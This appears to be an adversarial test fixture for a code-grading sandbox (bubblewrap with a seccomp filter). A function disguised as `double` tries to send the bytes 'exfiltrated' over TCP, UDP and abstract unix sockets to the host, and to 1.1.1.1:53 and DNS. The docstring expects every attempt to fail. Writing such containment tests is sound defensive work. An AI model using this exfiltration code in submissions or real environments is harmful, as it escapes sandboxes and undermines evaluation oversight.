"""Attack: reach the network: TCP and UDP to a port the grading host listens on at
127.0.0.1, an abstract unix socket of the host, a public address, DNS.

Expected at the bwrap level: every attempt fails: the seccomp filter refuses every socket but
a unix one (EAFNOSUPPORT), and the new network namespace has only its own loopback, down,
so the abstract unix socket of the host is not there; the host's listeners receive nothing;
``double`` fails (zeros), ``add`` passes.
"""

import errno
import socket

import numpy as np

TARGETS: dict = {}  # host ports and socket names, filled in by tests/test_adversarial.py


def add(a, b):
    return np.add(a, b)


def _tcp(host, port):
    with socket.create_connection((host, port), timeout=1) as s:
        s.sendall(b"exfiltrated")


def _udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"exfiltrated", (host, port))


def _unix(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect("\0" + name)
        s.sendall(b"exfiltrated")


def double(x):
    port = int(TARGETS.get("port", 9))
    attempts = {
        "tcp 127.0.0.1": lambda: _tcp("127.0.0.1", port),
        "udp 127.0.0.1": lambda: _udp("127.0.0.1", port),
        "tcp localhost": lambda: _tcp("localhost", port),
        "unix abstract": lambda: _unix(TARGETS.get("abstract", "none")),
        "tcp 1.1.1.1:53": lambda: _tcp("1.1.1.1", 53),
        "dns": lambda: socket.getaddrinfo("example.com", 80),
    }
    no_error = []
    for name, attempt in attempts.items():
        try:
            attempt()
        except OSError as exc:
            print(f"{name}: {errno.errorcode.get(exc.errno or 0, type(exc).__name__)}")
            continue
        no_error.append(name)  # UDP reports no error even when nobody receives
    with open("/proc/net/dev") as f:
        interfaces = [line.split(":")[0].strip() for line in f.read().splitlines()[2:]]
    print(f"interfaces: {interfaces}; sent without an error: {no_error}")
    return np.zeros_like(x)
